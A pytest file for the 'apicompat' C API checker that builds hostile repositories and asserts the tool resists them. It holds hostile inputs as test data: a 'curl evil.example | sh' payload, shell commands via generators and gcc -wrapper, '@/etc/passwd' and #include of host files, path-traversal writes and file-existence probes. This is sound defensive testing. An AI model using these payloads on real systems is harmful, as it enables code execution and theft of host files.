"""Hostile repositories (issue 9): the analysed repository is untrusted input.

Each test builds a repository (git and hg, through the `vcs` fixture) the way
an attacker would, with two tags r1 and r2, runs the whole command line the
way a user would (`apicompat diff r1 r2 --repo R`, other formats, `snapshot`,
`shim`, `timeline`, `log`, `bisect`), and asserts the safe behaviour issue 9
asks for.  Every attack has a canary: a file a command would create, a
directory a write would land in, or a unique token in a host file that must
appear in no output.

On the code the issue was filed against, every test above the "guards"
section fails (see FINDINGS.md next to this file when it was written).  The
guards at the end pass today; they keep a fix from opening those doors (or
from breaking what must keep working).

Each test names its issue item: `# issue 9 item N` (items 1-8 of the issue),
or `# issue 9 extra` for attacks the issue does not list.
"""
from __future__ import annotations

import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest
from click.testing import CliRunner

from apicompat.cli import main
from apicompat.vcs.create import Commit, build_repository
from helpers import kill_pids, make_repo, pids_with

FORMATS = ("text", "json", "markdown", "html")
OLD = {"include/a.h": "int a(void);\n"}
NEW = {"include/a.h": "int a(void);\nint b(void);\n"}    # r2 adds b(): a clean diff exits 4
UP = "../" * 16                                           # climbs from any temp tree to /

# Budgets for the "bounded work" tests (item 6).  The fix chooses its own limits; these are
# what a user may expect at most from headers that are merely hostile.  Today the macro bomb
# below reaches 1.4 GB resident under a 3 GB address-space cap (and 4.2 GB uncapped at 24 levels),
# so a budget must stay well under what MEMORY_SAFETY_CAP lets today's code reach.
MEMORY_BUDGET_KB = 1_000_000        # peak RSS of apicompat or any process it starts
MEMORY_SAFETY_CAP = 4 * 1024 ** 3   # RLIMIT_AS for the whole run, so today's code cannot eat the machine
SLOW = 180                          # seconds a hostile run may take at most


# -- running the command line ------------------------------------------------------------

@pytest.fixture(autouse=True)
def neutral_cwd(tmp_path, monkeypatch):
    """Run from an empty folder: no apicompat.toml but the ones a test plants."""
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    monkeypatch.chdir(cwd)
    return cwd


def cli(*args, color: bool = False):
    """The command line in-process.  color=True: click keeps escape sequences, as on a terminal."""
    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False, color=color)


def apicompat_argv(*args) -> list[str]:
    beside = Path(sys.executable).with_name("apicompat")
    head = [str(beside)] if beside.exists() else [sys.executable, "-c", "from apicompat.cli import main; main()"]
    return head + [str(a) for a in args]


def run_cli(*args, timeout: float = 60, cwd=None) -> subprocess.CompletedProcess:
    """The command line in a subprocess (for attacks that hang, crash or fill memory)."""
    return subprocess.run(apicompat_argv(*args), capture_output=True, text=True, errors="replace",
                          timeout=timeout, cwd=cwd, stdin=subprocess.DEVNULL)


_MEASURE = r"""
import json, os, resource, signal, subprocess, sys, time
cap, timeout = int(sys.argv[1]), float(sys.argv[2])
def limit():
    resource.setrlimit(resource.RLIMIT_AS, (cap, cap))
start = time.monotonic()
proc = subprocess.Popen(sys.argv[3:], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, errors="replace",
                        preexec_fn=limit, stdin=subprocess.DEVNULL, start_new_session=True)
try:
    out, err = proc.communicate(timeout=timeout)
    rc = proc.returncode
except subprocess.TimeoutExpired:
    os.killpg(proc.pid, signal.SIGKILL)          # apicompat and everything it started
    out, err = proc.communicate()
    rc = "timeout"
print(json.dumps({"rc": rc, "out": out[-20000:], "err": err[-20000:], "seconds": time.monotonic() - start,
                  "peak_kb": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss}))
"""


def run_measured(*args, timeout: float = SLOW) -> dict:
    """Run the command line under a memory cap and a time limit (the whole process group is
    killed at the limit): exit status ("timeout" if killed), output, seconds and peak RSS (the
    largest of apicompat and every process it waited for: the preprocessor, generators)."""
    proc = subprocess.run([sys.executable, "-c", _MEASURE, str(MEMORY_SAFETY_CAP), str(timeout),
                           *apicompat_argv(*args)], capture_output=True, text=True, timeout=timeout + 60)
    return json.loads(proc.stdout)


def output_of(result) -> str:
    return result.output if hasattr(result, "output") else result.stdout + result.stderr


def assert_ignored(output: str, *keys) -> None:
    """The run says that the repository's profile tried to set `keys` and that they were ignored.
    A key may be a tuple of spellings, any of which will do."""
    said = [line for line in output.splitlines() if "ignor" in line.lower()]
    assert said, f"no warning that repository settings were ignored:\n{output[-3000:]}"
    for key in keys:
        spellings = key if isinstance(key, tuple) else (key,)
        assert any(k in line for line in said for k in spellings), \
            f"the warning does not name {' or '.join(spellings)}:\n" + "\n".join(said)


# -- building hostile repositories -------------------------------------------------------

def hostile_repo(tmp_path: Path, vcs: str, old: dict | None = None, new: dict | None = None,
                 profile: str | None = None) -> Path:
    """r1 = OLD (+ old), r2 = NEW (+ new); `profile` is committed as the top folder's apicompat.toml."""
    first = {**OLD, **(old or {})}
    if profile is not None:
        first["apicompat.toml"] = profile
    return make_repo(tmp_path / "repo", vcs, [first, {**NEW, **(new or {})}])


@pytest.fixture
def host_secret(tmp_path):
    """Files outside any repository, holding a unique token: a passwd-like file, a
    hostname-like one (one word) and a header in a folder of its own."""
    token = f"HOSTSECRET_{uuid.uuid4().hex}"
    host = tmp_path / "host"
    (host / "incdir").mkdir(parents=True)
    files = {
        "passwd": host / "passwd",
        "hostname": host / "hostname",
        "header": host / "incdir" / "secret.h",
    }
    files["passwd"].write_text(f"root:x:0:0:{token}:/root:/bin/bash\n")
    files["hostname"].write_text(f"{token}\n")
    files["header"].write_text(f"root:x:0:0:{token}:/root:/bin/bash\n")
    return token, files


def toml_str(value: str) -> str:
    return json.dumps(value)      # a JSON string is a valid TOML basic string


def all_formats(*args) -> dict[str, str]:
    """`diff ARGS` in every format: {format: output (stdout and stderr)}."""
    return {fmt: cli("diff", *args, "--format", fmt).output for fmt in FORMATS}


needs_proc = pytest.mark.skipif(not Path("/proc/self/cmdline").exists(), reason="needs Linux /proc")


# == Item 1: a repository's own apicompat.toml cannot grant trust =========================

PWN_GENERATOR = """
trust = true
generators = ["pwn"]

[generator.pwn]
type = "command"
command = ["/bin/sh", "-c", "touch {canary}"]
outputs = ["include/a.h"]
"""


@pytest.mark.parametrize("command", ["diff", "shim", "snapshot", "timeline"])
def test_repo_profile_trust_true_does_not_run_its_generator(tmp_path, vcs, command):  # issue 9 item 1
    """Attack: apicompat.toml at the repository's top with `trust = true` and a `command`
    generator.  Safe: the command never runs (no --trust given); the run goes on without
    those keys and says they were ignored."""
    canary = tmp_path / "pwned"
    repo = hostile_repo(tmp_path, vcs, profile=PWN_GENERATOR.format(canary=canary))
    args = {"diff": ["diff", "r1", "r2"], "shim": ["shim", "r1", "r2"],
            "snapshot": ["snapshot", "r2", "--out", tmp_path / "snap"], "timeline": ["timeline", "--no-cache"]}
    result = cli(*args[command], "--repo", repo)
    assert not canary.exists(), f"the repository's generator ran under `{command}`"
    assert result.exit_code == (4 if command == "diff" else 0), result.output
    assert_ignored(result.output, "trust", "generator")


def test_repo_profile_generator_without_trust_is_ignored_not_fatal(tmp_path, vcs):  # issue 9 item 1
    """Attack (denial): a repository profile names a generator, no `trust` key.  Today the
    run stops ("re-run with --trust").  Safe: the repository cannot set generators, so the
    run goes on without them and says so."""
    canary = tmp_path / "pwned"
    repo = hostile_repo(tmp_path, vcs, profile=PWN_GENERATOR.replace("trust = true", "").format(canary=canary))
    result = cli("diff", "r1", "r2", "--repo", repo)
    assert not canary.exists()
    assert result.exit_code == 4, result.output
    assert "Function added: b" in result.output
    assert_ignored(result.output, "generator")


@pytest.mark.parametrize("where", ["top", "subfolder"])
def test_profile_in_cwd_inside_the_repository_is_still_the_repositorys(tmp_path, vcs, monkeypatch, where):  # issue 9 item 1
    """Attack: the user runs `apicompat diff r1 r2` from inside the cloned repository (or one of
    its folders, which has its own apicompat.toml).  The 'current directory' profile is then the
    attacker's file.  Safe: a profile found inside the analysed repository is repository data."""
    canary = tmp_path / "pwned"
    profile = PWN_GENERATOR.format(canary=canary)
    repo = hostile_repo(tmp_path, vcs, old={"apicompat.toml": profile, "src/apicompat.toml": profile})
    monkeypatch.chdir(repo if where == "top" else repo / "src")
    result = cli("diff", "r1", "r2") if where == "top" else cli("diff", "r1", "r2", "--repo", ".")
    assert not canary.exists(), "the repository's generator ran because the user's cwd was inside the repository"
    assert result.exit_code == 4, result.output


def test_profile_beside_the_repository_in_an_unpacked_tarball_is_not_the_users(tmp_path, vcs, monkeypatch):  # issue 9 item 1
    """Attack: a vendor tarball unpacks to `apicompat.toml` (cflags = -wrapper sh) beside the
    repository folder; the user runs `apicompat diff r1 r2 --repo repo` from the unpacked folder.
    The file is outside the repository, so today it counts as the user's own and the wrapper runs.
    Safe: a profile merely found in the current folder says only what to read until the user names
    it (--profile), trusts it, or passes --trust; the run says how."""
    canary = tmp_path / "pwned"
    repo = hostile_repo(tmp_path, vcs)
    (tmp_path / "apicompat.toml").write_text(f"cflags = [\"-wrapper\", {toml_str(f'/bin/sh,-c,touch {canary}')}]\n")
    monkeypatch.chdir(tmp_path)
    result = cli("diff", "r1", "r2", "--repo", repo.name)
    assert not canary.exists(), "a profile found in the current folder ran the compiler's -wrapper"
    assert result.exit_code == 4 and "Function added: b" in result.output, result.output
    assert_ignored(result.output, "cflags")
    assert "--profile" in result.output and "apicompat trust" in result.output
    # Named by the user, it is theirs: the wrapper is their choice (it runs; outside the compiler's
    # jail, which would keep it from writing the canary, as it keeps a repository's header from it).
    monkeypatch.setenv("APICOMPAT_JAIL", "0")
    cli("diff", "r1", "r2", "--repo", repo.name, "--profile", "apicompat.toml", "--no-cache")
    assert canary.exists(), "a profile the user named with --profile lost its cflags"


def test_a_repositorys_own_accept_entries_are_never_silent(tmp_path, vcs):  # issue 9 extra
    """Attack: a pull request adds [[accept]] entries to its own apicompat.toml to excuse its
    breaking change.  Policy: honoured (that is how maintainers record a deliberate break) but
    said: the run names the file and the count, the finding is listed as accepted, and
    `--accept FILE` uses only the user's."""
    accept = '[[accept]]\nkind = "function_removed"\nsymbol = "a"\nreason = "trust me"\n'
    repo = make_repo(tmp_path / "repo", vcs, [{**OLD, "apicompat.toml": accept},
                                              {"include/a.h": "int b(void);\n", "apicompat.toml": accept}])
    result = cli("diff", "r1", "r2", "--repo", repo)
    assert "inside the analysed repository" in result.output and "--accept FILE" in result.output, result.output
    assert "trust me" in result.output, result.output
    mine = tmp_path / "mine.toml"
    mine.write_text("")
    strict = cli("diff", "r1", "r2", "--repo", repo, "--accept", mine)
    assert strict.exit_code & 8, strict.output


def test_a_symlinked_repository_profile_borrows_no_trust(tmp_path, vcs, monkeypatch):  # issue 9 item 1
    """Attack: the user once trusted their own project's profile (its cflags run a wrapper); the
    repository commits apicompat.toml as a symlink to that file.  Trust was keyed by the
    resolved path and content, so the repository borrowed it.  Safe: a repository's profile is
    never read through a link, and trust is keyed by the path as spelled."""
    monkeypatch.setenv("APICOMPAT_CONFIG_DIR", str(tmp_path / "config"))
    canary = tmp_path / "pwned"
    mine = tmp_path / "mine" / "apicompat.toml"
    mine.parent.mkdir()
    mine.write_text(f"cflags = [\"-wrapper\", {toml_str(f'/bin/sh,-c,touch {canary}')}]\n")
    assert cli("trust", mine).exit_code == 0
    repo = hostile_repo(tmp_path, vcs)
    _commit_symlink(repo, vcs, "apicompat.toml", mine, "r3")
    monkeypatch.chdir(repo)
    result = cli("diff", "r1", "r2")
    assert not canary.exists(), "a symlinked repository profile borrowed the user's trust"
    assert result.exit_code == 4 and "symbolic link" in result.output, result.output


def test_a_symlinked_repository_profile_reads_no_host_file(tmp_path, vcs, host_secret):  # issue 9 item 4
    """Attack: apicompat.toml committed as a symlink to a host TOML file holding a secret define:
    `profile show` prints it.  Safe: not read through the link."""
    token, _ = host_secret
    host = tmp_path / "host" / "secret.toml"
    host.write_text(f'defines = ["{token}=1"]\n')
    repo = hostile_repo(tmp_path, vcs)
    _commit_symlink(repo, vcs, "apicompat.toml", host, "r3")
    for args in (("profile", "show", "r3", "--repo", repo), ("diff", "r1", "r2", "--repo", repo)):
        out = cli(*args).output
        assert token not in out, f"host file content in `{args[0]}`"


# == Item 2: compiler, cflags (anything that reaches a command line) ======================

def test_repo_profile_cflags_wrapper_does_not_run(tmp_path, vcs):  # issue 9 item 2
    """Attack: `cflags = ["-wrapper", "/bin/sh,-c,touch CANARY"]`: gcc runs the attacker's
    shell instead of cc1 (and today the run even reports "no API change").  Safe: cflags from
    the repository are ignored with a warning; the diff is the real one."""
    canary = tmp_path / "pwned"
    repo = hostile_repo(tmp_path, vcs, profile=f"cflags = [\"-wrapper\", {toml_str(f'/bin/sh,-c,touch {canary}')}]\n")
    result = cli("diff", "r1", "r2", "--repo", repo)
    assert not canary.exists(), "the compiler ran the repository's -wrapper"
    assert result.exit_code == 4 and "Function added: b" in result.output, result.output
    assert_ignored(result.output, "cflags")


def test_repo_profile_cflags_response_file_leaks_nothing(tmp_path, vcs, host_secret):  # issue 9 item 2
    """Attack: `cflags = ["@/etc/passwd"]`: gcc reads a host file as options and quotes every
    line of it in its error, which today lands in the report.  Safe: cflags ignored, no byte
    of the file in any output."""
    token, files = host_secret
    repo = hostile_repo(tmp_path, vcs, profile=f"cflags = [{toml_str('@' + str(files['passwd']))}]\n")
    for fmt, out in all_formats("r1", "r2", "--repo", repo).items():
        assert token not in out, f"host file content in the {fmt} report"
    assert_ignored(cli("diff", "r1", "r2", "--repo", repo).output, "cflags")


def test_repo_profile_compiler_from_the_work_tree_does_not_run(tmp_path, vcs):  # issue 9 item 2
    """Attack: `compiler = "<repo>/tools/cc"`, an executable script committed in the repository
    that touches a canary and then runs the real cc (so nothing looks wrong).  Safe: the
    repository cannot choose the compiler; ignored with a warning."""
    canary = tmp_path / "pwned"
    script = f"#!/bin/sh\ntouch {canary}\nexec cc \"$@\"\n"
    repo_dir = tmp_path / "repo"
    repo = hostile_repo(tmp_path, vcs, old={"tools/cc": script},
                        profile=f"compiler = {toml_str(str(repo_dir / 'tools' / 'cc'))}\n")
    (repo / "tools" / "cc").chmod(0o755)        # as a clone of a mode-100755 file has it
    result = cli("diff", "r1", "r2", "--repo", repo)
    assert not canary.exists(), "the repository's compiler script ran"
    assert result.exit_code == 4, result.output
    assert_ignored(result.output, "compiler")


def test_repo_profile_compiler_bin_sh_is_ignored(tmp_path, vcs):  # issue 9 item 2
    """Attack: `compiler = "/bin/sh"` (today: /bin/sh is executed and the run fails).  Safe:
    the key is ignored with a warning, cc is used, and the diff is the real one."""
    repo = hostile_repo(tmp_path, vcs, profile='compiler = "/bin/sh"\n')
    result = cli("diff", "r1", "r2", "--repo", repo)
    assert result.exit_code == 4 and "Function added: b" in result.output, result.output
    assert_ignored(result.output, "compiler")


# == Item 3: writes stay inside the temporary tree ========================================

@pytest.mark.parametrize("spelling", ["absolute", "escaping"])
def test_include_dir_as_name_cannot_write_outside(tmp_path, vcs, spelling):  # issue 9 item 3
    """Attack: `include_dirs = [{path="payload", as="/abs/dir"}]` (or `as="../../../../abs/dir"`):
    the payload (here a `.bashrc`) is written into that directory, e.g. a user's home.
    Safe: nothing is written there; the run goes on and says the setting was ignored."""
    victim = tmp_path / "home"
    as_name = str(victim) if spelling == "absolute" else UP + str(victim).lstrip("/")
    profile = f"include_dirs = [{{path = \"payload\", as = {toml_str(as_name)}}}]\n"
    repo = hostile_repo(tmp_path, vcs, old={"payload/.bashrc": "curl evil.example | sh\n"}, profile=profile)
    for args in (["diff", "r1", "r2"], ["snapshot", "r2", "--out", tmp_path / "snap"]):
        cli(*args, "--repo", repo)
        assert not victim.exists(), f"`{args[0]}` wrote {sorted(p.name for p in victim.rglob('*'))} into {victim}"
    assert_ignored(cli("diff", "r1", "r2", "--repo", repo).output, ("include_dirs", as_name))


GENERATOR = """
generators = ["gen"]

[generator.gen]
type = "command"
command = ["{{python}}", "-c", {code}]
outputs = ["include/a.h"]
"""


def test_generator_rename_to_an_absolute_path_writes_nothing_outside(tmp_path, vcs):  # issue 9 item 3
    """Attack (user gave --trust): a generator's `rename = {"include/gen.h" = "/abs/file"}`
    moves its output out of the temporary tree (onto a user's file).  Safe: the rename is
    refused (a problem for that generator), nothing appears at /abs/file."""
    victim = tmp_path / "victim" / ".profile"
    profile = GENERATOR.format(code=toml_str("open('include/gen.h', 'w').write('int gen(void);\\n')")) + \
        f"rename = {{ \"include/gen.h\" = {toml_str(str(victim))} }}\n"
    repo = hostile_repo(tmp_path, vcs, profile=profile)
    cli("diff", "r1", "r2", "--repo", repo, "--trust")
    assert not victim.exists(), "a generator rename wrote outside the temporary tree"


def test_generator_rename_from_an_absolute_path_does_not_take_a_user_file(tmp_path, vcs, host_secret):  # issue 9 item 3
    """Attack (user gave --trust): `rename = {"/home/u/.ssh/id_rsa" = "include/k.h"}` moves a
    user's file into the temporary tree, where it is reported (leaked) and then deleted with
    the tree.  Safe: refused; the file is untouched and appears in no output."""
    token, files = host_secret
    before = files["passwd"].read_text()
    profile = GENERATOR.format(code=toml_str("pass")) + \
        f"rename = {{ {toml_str(str(files['passwd']))} = \"include/stolen.h\" }}\n"
    repo = hostile_repo(tmp_path, vcs, profile=profile)
    result = cli("diff", "r1", "r2", "--repo", repo, "--trust")
    assert files["passwd"].exists() and files["passwd"].read_text() == before, "the user's file was moved away"
    assert token not in result.output


def test_generator_cwd_outside_the_tree_is_refused(tmp_path, vcs):  # issue 9 item 3
    """Attack (user gave --trust): generator `cwd = "../../../../abs/dir"`: the directory is
    created outside the temporary tree and the command writes there.  Safe: refused."""
    victim = tmp_path / "victim-dir"
    profile = GENERATOR.format(code=toml_str("open('planted', 'w').write('x')")) + \
        f"cwd = {toml_str(UP + str(victim).lstrip('/'))}\n"
    repo = hostile_repo(tmp_path, vcs, profile=profile)
    cli("diff", "r1", "r2", "--repo", repo, "--trust")
    assert not victim.exists(), f"generator cwd escaped the tree: {sorted(p.name for p in victim.rglob('*'))}"


def test_generator_output_outside_the_tree_is_not_read(tmp_path, vcs, host_secret):  # issue 9 item 3
    """Attack (user gave --trust): `outputs = ["include/../../../../abs/secret.h"]` matches the
    header glob include/**/*.h, so a host file becomes a 'public header' and is reported.
    Safe: an output path that leaves the tree is refused; nothing of the file is shown."""
    token, files = host_secret
    profile = GENERATOR.format(code=toml_str("pass")).replace(
        'outputs = ["include/a.h"]', f"outputs = [{toml_str('include/' + UP + str(files['header']).lstrip('/'))}]")
    repo = hostile_repo(tmp_path, vcs, profile=profile)
    result = cli("diff", "r1", "r2", "--repo", repo, "--trust")
    assert token not in result.output


def test_snapshot_does_not_copy_host_headers_named_by_the_repo_profile(tmp_path, vcs, host_secret):  # issue 9 item 3
    """Attack: `include_dirs = ["/abs/dir"]` in the repository's profile; `snapshot --out` copies
    every .h of that host directory into the output (host files leave their place).
    Safe: the absolute include dir is ignored; the output holds repository files only."""
    token, files = host_secret
    repo = hostile_repo(tmp_path, vcs, profile=f"include_dirs = [{toml_str(str(files['header'].parent))}]\n")
    out = tmp_path / "snap"
    result = cli("snapshot", "r2", "--repo", repo, "--out", out)
    written = {p.relative_to(out).as_posix(): p.read_text(errors="replace") for p in out.rglob("*") if p.is_file()}
    assert "secret.h" not in written and not any(token in t for t in written.values()), sorted(written)
    assert_ignored(result.output, "include_dirs")


# == Item 4: reads stay inside the snapshot ================================================

INCLUDE_SHAPES = {
    # name: (header text, secret file); {p} is the secret's absolute path
    "absolute": ('#include "{p}"\nint after_abs(void);\n', "passwd"),
    "relative": ('#include "' + UP.rstrip("/") + '{p}"\nint after_rel(void);\n', "passwd"),
    "struct": ('struct spliced {{\n#include "{p}"\n    int x;\n}};\n', "hostname"),
    "macro": ('#define P "{p}"\n#include P\n', "passwd"),
}


@pytest.mark.parametrize("shape", sorted(INCLUDE_SHAPES))
def test_include_of_a_host_file_reaches_no_report(tmp_path, vcs, host_secret, shape):  # issue 9 item 4
    """Attack: a header does `#include "/etc/passwd"` (absolute, `../../..` relative, spliced
    inside a struct, or computed by a macro).  Today the file's lines appear in every report
    format (as a problem's quoted line or as a 'field').  Safe: no byte of the host file in
    text, JSON, Markdown or HTML; the header is a problem that says it includes a file
    outside the repository; the rest of the API is still compared."""
    token, files = host_secret
    text, which = INCLUDE_SHAPES[shape]
    repo = hostile_repo(tmp_path, vcs, new={"include/evil.h": text.format(p=files[which])})
    outputs = all_formats("r1", "r2", "--repo", repo)
    for fmt, out in outputs.items():
        assert token not in out, f"host file content in the {fmt} report:\n{out[:3000]}"
    assert "outside the repository" in outputs["text"], outputs["text"]
    assert "Function added: b" in outputs["text"]


def test_host_file_spliced_as_a_field_is_not_reported(tmp_path, vcs, host_secret):  # issue 9 item 4
    """Attack: a struct whose body is `#include "/abs/field.h"` where the host file happens to be
    valid C (`int TOKEN;`): today it becomes a field of a public struct in every report."""
    token, files = host_secret
    field = files["header"].parent / "field.h"
    field.write_text(f"int {token};\n")
    repo = hostile_repo(tmp_path, vcs, new={"include/evil.h": f'struct spliced {{\n#include "{field}"\n}};\n'})
    outputs = all_formats("r1", "r2", "--repo", repo)
    for fmt, out in outputs.items():
        assert token not in out, f"host file content in the {fmt} report"
    assert "outside the repository" in outputs["text"], outputs["text"]


@pytest.mark.parametrize("entry", ["absolute", "profile_relative"])
def test_repo_profile_include_dir_on_the_host_leaks_nothing(tmp_path, vcs, host_secret, entry):  # issue 9 item 4
    """Attack: the repository's profile puts a host directory on the include path
    (`include_dirs = ["/abs/dir"]`, or `{path = "../../..", profile_relative = true}` which
    resolves against the work tree), and a header does `#include <secret.h>`.
    Safe: such include dirs are ignored (with a warning); no byte of the host file shown."""
    token, files = host_secret
    folder = files["header"].parent
    value = toml_str(str(folder)) if entry == "absolute" else \
        f"{{path = {toml_str(UP + str(folder).lstrip('/'))}, profile_relative = true}}"
    repo = hostile_repo(tmp_path, vcs, new={"include/evil.h": "#include <secret.h>\n"},
                        profile=f"include_dirs = [{value}]\n")
    outputs = all_formats("r1", "r2", "--repo", repo)
    for fmt, out in outputs.items():
        assert token not in out, f"host file content in the {fmt} report"
    assert_ignored(outputs["text"], "include_dirs")


def test_has_include_of_a_host_file_does_not_change_the_model(tmp_path, vcs, host_secret):  # issue 9 item 4
    """Attack: `#if __has_include("/abs/probe")` toggles a declaration, so the report tells
    whether a file exists on the analysing machine (and the model depends on the host).
    Safe: the result is the same whether or not the host file exists."""
    token, files = host_secret
    probe = files["header"].parent / "probe.h"
    header = f'#if __has_include("{probe}")\nint host_has_probe(void);\n#endif\n'
    repo = hostile_repo(tmp_path, vcs, new={"include/evil.h": header})
    # --no-cache: the second run must read the headers again, not the first run's model
    absent = cli("diff", "r1", "r2", "--repo", repo, "--format", "json", "--no-cache").stdout
    probe.write_text("/* exists */\n")
    present = cli("diff", "r1", "r2", "--repo", repo, "--format", "json", "--no-cache").stdout
    assert "host_has_probe" not in present, "the model depends on a file outside the repository"
    assert json.loads(absent)["findings"] == json.loads(present)["findings"]


# Spellings the compiler reads as a probe of PROBE (an absolute host path) that a scan of the
# raw text misses: a line splice inside the name, a comment before the parenthesis, the name or
# the path from a macro, `_Pragma` and the `%:` digraph for `#pragma GCC dependency`.
PROBE_SPELLINGS = {
    "splice": '#if __has_\\\ninclude("PROBE")\nint host_has_probe(void);\n#endif\n',
    "comment": '#if __has_include/**/("PROBE")\nint host_has_probe(void);\n#endif\n',
    "macro-path": '#define P "PROBE"\n#if __has_include(P)\nint host_has_probe(void);\n#endif\n',
    "macro-name": '#define H __has_include\n#if H("PROBE")\nint host_has_probe(void);\n#endif\n',
    "legacy-name": '#if defined(__has_include__) && __has_include__("PROBE")\nint host_has_probe(void);\n#endif\n',
    "pragma-operator": '_Pragma("GCC dependency \\"PROBE\\"")\nint host_has_probe(void);\n',
    "pragma-stringized": '#define S(x) _Pragma(#x)\nS(GCC dependency "PROBE")\nint host_has_probe(void);\n',
    "pragma-digraph": '%:pragma GCC dependency "PROBE"\nint host_has_probe(void);\n',
    "pragma-spliced": '#pra\\\ngma GCC depend\\\nency "PROBE"\nint host_has_probe(void);\n',
    # No scan of the text can see these: the name is built by the preprocessor itself, or hidden
    # from a tokenizer by GNU raw strings and form-feed splices.  Only the jail answers them.
    "token-pasting": '#define H(a,b) a##b\n#if H(__has_,include)("PROBE")\nint host_has_probe(void);\n#endif\n',
    "raw-string": '#define X R"x(" /* )x"\n#if __has_include("PROBE")\nint host_has_probe(void);\n#endif\n'
                  '#define Y " */\n',
    "formfeed-splice": '#if __has_\\\f\ninclude("PROBE")\nint host_has_probe(void);\n#endif\n',
}
NEEDS_JAIL = {"token-pasting", "raw-string", "formfeed-splice"}


@pytest.mark.parametrize("spelling", sorted(PROBE_SPELLINGS))
def test_existence_probes_are_read_as_the_compiler_reads_them(tmp_path, vcs, host_secret, spelling):  # issue 9 item 4
    """Attack: the probes above tell whether a host file exists (`#pragma GCC dependency` on a
    missing file is a fatal error; `__has_include` toggles a declaration).  Safe: the findings
    and the exit status are the same whether the host file exists or not."""
    from apicompat import jail
    if spelling in NEEDS_JAIL and not jail.available():
        pytest.skip("the compiler's jail is unavailable (no user and mount namespaces here, or APICOMPAT_JAIL=0); "
                    "such probes are then answered only as far as the text checks reach (README, Security)")
    token, files = host_secret
    probe = files["header"].parent / "probe.h"
    header = NEW["include/a.h"] + PROBE_SPELLINGS[spelling].replace("PROBE", str(probe))
    repo = hostile_repo(tmp_path, vcs, new={"include/a.h": header})
    absent = cli("diff", "r1", "r2", "--repo", repo, "--format", "json", "--no-cache")
    probe.write_text("/* exists */\n")     # --no-cache: read again, not the first run's model
    present = cli("diff", "r1", "r2", "--repo", repo, "--format", "json", "--no-cache")
    assert absent.exit_code == present.exit_code, (absent.output[-2000:], present.output[-2000:])
    if not absent.stdout.strip():       # the header could not be read at all: the same error both times
        assert absent.output == present.output
        return
    assert json.loads(absent.stdout)["findings"] == json.loads(present.stdout)["findings"]
    assert json.loads(absent.stdout).get("problems") == json.loads(present.stdout).get("problems")


CHECK_COMMANDS = {
    "impact": ("impact", "--check"),
    "shim": ("shim", "--check"),
    "migrate": ("migrate", "--check"),
}


@pytest.mark.parametrize("command", sorted(CHECK_COMMANDS))
def test_consumer_compiles_never_quote_a_host_file(tmp_path, vcs, host_secret, command):  # issue 9 item 4
    """Attack: NEW's header spells an enum's members with `#include "../../host/hostname"`; the
    user's code switches over that enum and compiles with -Werror=switch, so the compiler's error
    on the user's own line names the host file's content ("enumeration value 'SECRET' not
    handled").  `impact/shim/migrate --check` print those errors.  Safe: the compile that would
    read outside is not shown ("no errors shown"), and no byte of the host file appears."""
    if command == "migrate" and shutil.which("spatch") is None:
        pytest.skip("Coccinelle's spatch is not installed (scripts/test.sh installs it as root); "
                    "the same compile is proven here through impact and shim")
    token, files = host_secret
    header_new = "enum e {\n#include \"" + UP + str(files["hostname"]).lstrip("/") + "\"\n};\n"
    clean = {f"include/{n}.h": f"int {n}(void);\n" for n in "abc"}    # the extraction itself goes on
    repo = make_repo(tmp_path / "repo", vcs, [{**clean, "include/evil.h": "enum e { E0 };\n"},
                                              {**clean, "include/evil.h": header_new}])
    consumer = tmp_path / "me" / "use.c"
    consumer.parent.mkdir()
    consumer.write_text("#include <a.h>\n#include <evil.h>\nint f(enum e v) { switch (v) {} return a(); }\n")
    name, *flags = CHECK_COMMANDS[command]
    result = run_cli(name, "r1", "r2", "--repo", repo, "--consumer", consumer,
                     "--consumer-cflags", "-Werror=switch", *flags, timeout=SLOW)
    output = result.stdout + result.stderr
    assert token not in output, f"host file content in `{command} --check`"
    assert "no errors shown" in output, output[-3000:]


def test_markdown_report_keeps_hostile_names_inside_code(tmp_path, vcs):  # issue 9 item 8
    """Attack: a header named `x`@org/admins [click](https://evil.example)`.h` (backticks close
    the report's code span early), a tag named `@org/admins`: the PR comment pings a team and
    shows a link.  Safe: outside code spans no `@name` mention and no `[text](link)` survive."""
    from test_report_markdown import outside_code_spans
    evil = "include/x`@org/admins [click](https://evil.example)`.h"
    repo = hostile_repo(tmp_path, vcs, new={evil: "int evil(void);\n", "include/a.h": NEW["include/a.h"]
                                              + "int c(void);\n"})
    markdown = cli("diff", "r1", "r2", "--repo", repo, "--format", "markdown").output
    assert "evil" in markdown, markdown
    text = outside_code_spans(markdown)
    assert "@org" not in text and "](https://evil" not in text, text


def test_a_huge_blob_named_like_a_header_is_not_read_into_memory(tmp_path, vcs, monkeypatch):  # issue 9 item 6
    """Attack: a 3 GiB blob of zeros named include/big.h (a few KB in the repository) is read
    whole into memory (6 GB resident).  Safe: a file over the limit (APICOMPAT_MAX_FILE_MB; 1 MB
    here, so the test stays small) is not read: that header is a problem saying why, the others
    are compared.  The size is asked before the content (git: the object header; hg: `files`)."""
    monkeypatch.setenv("APICOMPAT_MAX_FILE_MB", "1")
    big = "/* " + "x" * (3 * 1024 * 1024) + " */\nint big(void);\n"
    repo = hostile_repo(tmp_path, vcs, new={"include/big.h": big, "include/c.h": "int c(void);\n"})
    result = run_cli("diff", "r1", "r2", "--repo", repo, "--format", "json", timeout=SLOW)
    report = json.loads(result.stdout)
    assert result.returncode == 4 | 32, result.stderr[-2000:]
    problem = next(p for p in report["problems"] if "big.h" in p["file"])
    assert "over the 1 MiB" in problem["message"], problem
    assert {f["symbol"] for f in report["findings"]} >= {"b", "c"}, report["findings"]


def test_a_file_name_that_is_not_utf8_is_read_and_shown_escaped(tmp_path, vcs):  # issue 9 extra
    """Attack: r2 adds `include/\\xff\\xfe.h` (bytes that are not UTF-8).  Today the run ends
    ("does not exist", then a traceback writing the unit, or in the HTML report).  Safe: it is
    read like any header and shown as `\\xff\\xfe` in every format."""
    name = os.fsdecode(b"include/\xff\xfe.h")
    repo = hostile_repo(tmp_path, vcs, new={name: "int odd(void);\n"})
    for fmt in (*FORMATS, "sarif", "github"):
        result = cli("diff", "r1", "r2", "--repo", repo, "--format", fmt)
        assert result.exit_code == 4, (fmt, result.output[-2000:])
        assert "odd" in result.output, fmt
